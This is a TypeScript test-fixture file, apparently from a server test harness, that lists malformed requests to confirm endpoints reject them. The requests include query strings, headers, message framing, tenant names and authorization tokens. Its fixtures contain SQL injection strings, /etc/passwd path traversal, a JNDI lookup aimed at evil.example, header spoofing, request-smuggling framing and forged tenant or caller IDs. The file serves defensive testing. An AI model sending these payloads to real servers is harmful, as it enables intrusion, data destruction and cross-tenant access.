import type { RawCall } from "#harness/rigs/server-rig.ts";
import { ORG_ID } from "#scenarios/wiring/server/environment.ts";
import type { Callers } from "./spoil-kinds.ts";

/**
 * What no endpoint asks for, or asks for in another form (server.md B.2): a flag of the query is set by `true` alone, and whoever
 * writes something else, or under a name that the endpoint does not have, is answered as if it were not there.
 */
export const queriesOf = ({ own, other }: Callers): readonly string[] => [
  "",
  "&&&=&=",
  "confirm=1&purge=1&force=1&reset=1",
  "confirm=yes&purge=on&force=TRUE&reset=True",
  "confirm=false&purge=false&force=false&reset=false",
  "confirm&purge&force&reset",
  "confirm[]=true&purge[]=true&force[]=true",
  "confirm=true%00&purge=%00true&force=true%0a",
  "confirm=%20true&purge=true%20&force=+true",
  "confirm=junk&confirm=true&force=junk&force=true",
  "CONFIRM=true&Purge=true&FORCE=true",
  "confirm=%ff&force=%",
  `token=${own}&access_token=${own}&bearer=${own}&authorization=Bearer+${own}`,
  `id=${other}&workspace_id=${other}&key=KEY`,
  "id=%27;DROP+TABLE+workspaces;--",
  "page=-1&limit=1e999&offset=NaN&status=removed",
  "__proto__=x&constructor=y&prototype[z]=1",
  "%00=%00&%ff=%fe&%F0%9F%90%99=1",
  "method=DELETE&_method=DELETE",
  "../../etc/passwd",
  "?".repeat(50),
  "x=".repeat(1_500),
];

type Headers = Readonly<Record<string, string>>;

/** Headers that no endpoint asks for, or that one of them only reads as a name, a number or a deadline, and these are none. */
export const headersOf = ({ own, other, isTenants }: Callers): readonly Headers[] => [
  { cookie: "session=admin; admin=true; molecule_session=1" },
  { cookie: "=;;=;\u00FF\u0080,,," },
  { cookie: `token=${own}; auth_token=${own}` },
  { "x-forwarded-for": "' OR 1=1 --" },
  { "x-forwarded-for": `,,, ,${"10.0.0.1,".repeat(300)}` },
  { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", forwarded: 'for="_gazonk";host=evil;proto=junk' },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "gopher", "x-forwarded-prefix": "/../.." },
  { "x-http-method-override": "DELETE", "x-method-override": "PUT", "x-http-method": "PATCH" },
  { "x-original-url": "/admin/secrets", "x-rewrite-url": "/workspaces" },
  { "x-molecule-admin-token": own, "x-admin-secret": own, "x-api-key": own },
  { "proxy-authorization": `Bearer ${own}`, "x-authorization": `Bearer ${own}` },
  { "x-timeout": "NaN" },
  { "x-timeout": "-1e999" },
  { accept: "image/png;q=junk", "accept-encoding": "junk;q=9", "accept-language": "\u00E9\u00E8", "accept-charset": "utf-7" },
  { range: "bytes=9-1", "if-match": "*", "if-none-match": "*", "if-modified-since": "never", "if-unmodified-since": "1" },
  { origin: "null", referer: "javascript:0", "sec-fetch-site": "cross-site" },
  { "user-agent": "\u00FF\u0080\t\u00A0" },
  { "fly-replay-src": "instance=junk;state=org:somebody-else;;=" },
  { "content-encoding": "gzip" },
  { "content-language": "junk", "content-location": "/etc/passwd", "content-range": "bytes 0-1/2" },
  { traceparent: "junk", "x-request-id": "\t${jndi:ldap://evil.example}" },
  { "x-junk": "x".repeat(4_000) },
  // Where callers are asked who they are, that is junk of another kind.
  { "x-workspace-ids": other, "x-workspace": other },
  ...(isTenants ? [] : [{ "x-molecule-org-id": "somebody-else" }]),
];

/** What frames a message on a socket, where a client writes it as it likes. */
export const FRAMING: readonly Headers[] = [
  { "content-length": "5" },
  { "content-length": "0" },
  { "content-length": "junk" },
  { "content-length": "-1" },
  { "content-length": "1e1" },
  { "content-length": "5, 5" },
  { "content-length": "0x5" },
  { "content-length": "5", "transfer-encoding": "chunked" },
  { "transfer-encoding": "junk" },
];

/** Frames that promise nothing of a body's length, but what follows. */
export const LOOSE_FRAMING: readonly Headers[] = [
  { expect: "junk" },
  { connection: "upgrade", upgrade: "websocket", "sec-websocket-version": "junk" },
  { te: "junk", trailer: "content-length" },
  { "keep-alive": "timeout=-1" },
];

/** Names of another tenant, or of none. */
export const FOREIGN_TENANTS: readonly Headers[] = [
  { "x-molecule-org-id": "" },
  { "x-molecule-org-id": "somebody-else" },
  { "x-molecule-org-id": ORG_ID.toUpperCase() },
  { "x-molecule-org-id": `${ORG_ID}, ${ORG_ID}` },
  { "x-molecule-org-id": `"${ORG_ID}"` },
  { "x-molecule-org-id": "", origin: "null" },
  { "x-molecule-org-id": "", origin: "http://platform.test:8080.evil.example" },
  { "x-molecule-org-id": "", "fly-replay-src": `state=org:${ORG_ID}x` },
  { "x-molecule-org-id": "", "fly-replay-src": `xstate=org:${ORG_ID}` },
  { "x-molecule-org-id": "\u00FF\u0080" },
];

/** Authorization that is none: no scheme, another one, a token with something at it. */
export const authorizationsOf = ({ own }: Callers): readonly string[] => [
  "",
  "Bearer",
  "Bearer \t ",
  "bearer: junk",
  own,
  `Bearer${own}`,
  `Token ${own}`,
  `Basic ${own}`,
  "Basic YWRtaW46YWRtaW4=",
  'Digest username="admin", realm="x"',
  `Bearer ${own}x`,
  `Bearer ${own.slice(0, -1)}`,
  `Bearer ${own.toUpperCase()}`,
  `Bearer ${own}, Bearer ${own}`,
  `Bearer x ${own}`,
  `Bearer "${own}"`,
  "Bearer null",
  "Bearer undefined",
  "Bearer %00",
  "Bearer \u00FF\u0080\u00A0",
  "Bearer ' OR 1=1 --",
  `Bearer ${"x".repeat(4_000)}`,
];

/** Whom an A2A message may not come from: what is no workspace, the platform's own names, and one whose token is not shown. */
export const falseCallersOf = ({ other, unknown }: Callers): readonly string[] => [
  "junk",
  "0",
  "null",
  "\u00FF\u0080",
  "' OR 1=1 --",
  "x".repeat(4_000),
  "system:restart",
  " system:restart",
  "webhook:x",
  "test:",
  "channel:\u00E9",
  "SYSTEM:restart",
  unknown,
  other,
  other.toUpperCase(),
  `${other}, ${other}`,
];

/** A request with junk laid over it. */
export const withHeaders = (call: Partial<RawCall>, headers: Headers): Partial<RawCall> => ({
  ...call,
  headers: { ...call.headers, ...headers },
});
